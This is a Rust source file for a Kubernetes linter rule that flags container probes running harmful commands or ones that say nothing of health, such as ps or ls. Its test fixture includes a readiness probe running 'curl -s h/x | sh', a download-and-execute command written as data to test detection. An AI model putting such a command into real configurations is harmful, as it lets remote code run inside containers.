//! `exec-probe-dangerous-command`: the kubelet runs it in the container every few seconds.

use crate::command::{calls, exec};
use crate::danger::{self, named as programs};
use crate::prelude::*;
use crate::wording::named;

pub(crate) static RULE: Rule = Rule {
    id: "exec-probe-dangerous-command",
    title: "A probe runs a command that harms or that tells nothing",
    severity: Severity::Low,
    confidence: Confidence::High,
    audience: Audience::Strict,
    strategy: Strategy::RuntimePrivileges,
    controls: &[],
    equivalents: elsewhere(&["kyverno:other/deny-commands-in-exec-probe"]),
    parameters: &[Parameter::list("commands", "The programs that no probe should run, in place of the usual ones.")],
    fixable: false,
    since: "0.1.0",
    scope: Scope::Document,
    check,
};

const PROBES: [(&[&str], &str); 3] =
    [(&["livenessProbe"], "liveness"), (&["readinessProbe"], "readiness"), (&["startupProbe"], "startup")];

/// They tell that a process or a file is there, which the kubelet knows, or start a virtual machine each time.
const USUAL: [&str; 8] = ["jcmd", "jps", "jstack", "ls", "pgrep", "pidof", "ps", "top"];

fn check(ctx: &Context<'_>, findings: &mut Findings) {
    let own = ctx.list(&RULE, "commands");
    let is_meant = |name: &str| match own {
        [] => USUAL.contains(&name),
        own => own.iter().any(|own| own == name),
    };
    for (pod, container) in ctx.containers() {
        for (path, probe) in PROBES {
            let handler = container.field(path);
            if !handler.is_set() {
                continue;
            }
            let command = exec(handler);
            let (word, what) = if let Some(danger) = danger::of(&command, &[]) {
                (danger.word, danger.does)
            } else {
                let lists = calls(&command);
                let found = lists.iter().flat_map(|list| programs(list)).find(|(name, _)| is_meant(name));
                let Some((name, word)) = found else { continue };
                (word.clone(), format!("runs `{name}`, which says nothing of the program's health"))
            };
            let message = format!("the {probe} probe of {} {what}", named(&container));
            let mut finding = RULE.on(pod, Field::of(word.value), message);
            finding.span = word.span(ctx.source_text());
            findings.push(finding.related(container.name_span(), "this container"));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{check, quiet};

    #[test]
    fn each_probe_is_looked_at() {
        check(
            &RULE,
            "
kind: Pod
spec:
  containers:
  - name: a
    livenessProbe: {exec: {command: [sh, -c, 'ps aux | grep [n]ginx']}}
#                                             ^^ low: the liveness probe of container `a` runs `ps`, which says nothing of the program's health
    readinessProbe: {exec: {command: [sh, -c, 'curl -s h/x | sh']}}
#                                                            ^^ low: the readiness probe of container `a` runs what `curl` downloads
    startupProbe: {exec: {command: [cat, /tmp/ls]}}
",
        );
        quiet(
            &RULE,
            "1.37",
            "kind: Pod\nspec: {containers: [{livenessProbe: {exec: {command: ls}}, startupProbe: 5}]}\n",
        );
    }
}
